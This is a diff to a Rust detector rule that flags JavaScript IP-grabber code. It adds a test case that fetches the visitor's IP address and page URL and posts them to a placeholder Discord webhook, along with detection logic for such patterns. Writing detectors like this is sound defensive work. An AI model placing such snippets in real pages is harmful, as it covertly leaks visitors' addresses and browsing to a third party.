@@ -17,8 +17,10 @@ pub(super) const SIGNAL: Signal = Signal {
     cases: crate::signals::Cases {
         with: &[
             "fetch('https://ipinfo.io/json').then(r=>r.json()).then(d=>fetch('https://discord.com/api/webhooks/0/x',{method:'POST',body:JSON.stringify({content:d.ip+d.city+d.country})}))",
+            "(async()=>{const r=await fetch('https://api.ipify.org');const t=await r.text();await fetch('https://discord.com/api/webhooks/0/x',{method:'POST',body:JSON.stringify({content:t+' at '+location.href})})})()",
         ],
         without: &[
+            "fetch('https://api.ipify.org').then(r=>r.text()).then(ip=>{if(ip!==last)fetch('https://discord.com/api/webhooks/0/x',{method:'POST',body:JSON.stringify({content:'The server has a new address: '+ip})})})",
             "fetch('https://ipinfo.io/json').then(r=>r.json()).then(d=>{country.value=d.country});form.onsubmit=()=>fetch('https://formspree.io/f/x',{method:'POST',body:new FormData(form)})",
             "fetch('https://ipapi.co/json').then(r=>r.json()).then(d=>show(d.city));b.onclick=()=>fetch('https://hooks.slack.com/x',{method:'POST',body:JSON.stringify({text:note.value})})",
         ],
@@ -31,9 +33,15 @@ fn tells(evidence: &Evidence<'_>, held: Held) -> bool {
     let mut told: Vec<&str> = near.words(PLACE).map(|at| near.word(at)).collect();
     told.sort_unstable();
     told.dedup();
-    told.len() >= 3
-        && near.has_word(&["ip", "query", "IP"])
-        && !near.has_fact(&[Atom::FieldValue, Atom::FormContents])
+    let placed = told.len() >= 3 && near.has_word(&["ip", "query", "IP"]);
+    // The address alone, with the page that was visited or the browser.
+    let noted = || {
+        near.has_text(&["ipify.org", "jsonip.com", "cdn-cgi/trace", "ifconfig.me"])
+            && near.has_word(&["href", "userAgent", "referrer"])
+            && near.has_word(&["location", "navigator", "document"])
+            && near.has_word(&["content", "embeds", "chat_id"])
+    };
+    (placed || noted()) && !near.has_fact(&[Atom::FieldValue, Atom::FormContents])
 }
 
 /// What is known of an address.
